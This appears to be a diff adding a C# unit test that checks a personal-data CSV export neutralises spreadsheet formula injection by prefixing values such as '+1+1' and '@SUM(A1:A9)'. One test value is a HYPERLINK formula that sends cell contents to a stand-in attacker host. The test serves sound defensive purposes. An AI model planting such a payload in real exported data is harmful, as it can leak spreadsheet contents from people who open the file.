@@ -53,6 +53,32 @@ public sealed class SubjectReadsTests(SiloApplicationFactory factory)
         Assert.Contains(lines, l => l.StartsWith("disclosure,Acme Analytics,business-purpose,F,", StringComparison.Ordinal));
     }
 
+    [Fact]
+    public async Task Given_values_that_read_as_spreadsheet_formulas_When_exported_as_csv_Then_each_is_prefixed_so_it_shows_as_text()
+    {
+        var subjectId = ReportsDriver.NewId("formula");
+        await driver.ExecuteAsync(new RegisterSubject { SubjectId = subjectId, Jurisdiction = "CA", Name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" });
+        await driver.ExecuteAsync(new CollectPersonalInformation
+        {
+            SubjectId = subjectId,
+            Category = PersonalInformationCategory.CommercialInformation,
+            Source = CollectionSource.Direct,
+            Purposes = [ProcessingPurpose.ProvideServices],
+            Data = new Dictionary<string, string> { ["a"] = "+1+1", ["b"] = "-2+3", ["c"] = "@SUM(A1:A9)", ["d"] = "\tcmd", ["e"] = "\r=1", ["f"] = "plain -1" },
+        });
+
+        var lines = (await driver.GetCsvAsync($"/api/subjects/{subjectId}/export")).Split("\r\n");
+
+        Assert.Contains(lines, l => l.StartsWith("subject,contact,name,\"'=HYPERLINK(", StringComparison.Ordinal));
+        Assert.Contains(lines, l => l.StartsWith("personal-information,D,a,'+1+1,", StringComparison.Ordinal));
+        Assert.Contains(lines, l => l.StartsWith("personal-information,D,b,'-2+3,", StringComparison.Ordinal));
+        Assert.Contains(lines, l => l.StartsWith("personal-information,D,c,'@SUM(A1:A9),", StringComparison.Ordinal));
+        Assert.Contains(lines, l => l.StartsWith("personal-information,D,d,'\tcmd,", StringComparison.Ordinal));
+        Assert.Contains(lines, l => l.StartsWith("personal-information,D,e,\"'\r=1\",", StringComparison.Ordinal));
+        Assert.Contains(lines, l => l.StartsWith("personal-information,D,f,plain -1,", StringComparison.Ordinal));
+        Assert.DoesNotContain(lines, l => l.Split(',').Any(field => field.TrimStart('"') is { Length: > 0 } text && text[0] is '=' or '+' or '@' or '\t'));
+    }
+
     [Theory]
     [InlineData("access-report")]
     [InlineData("export")]
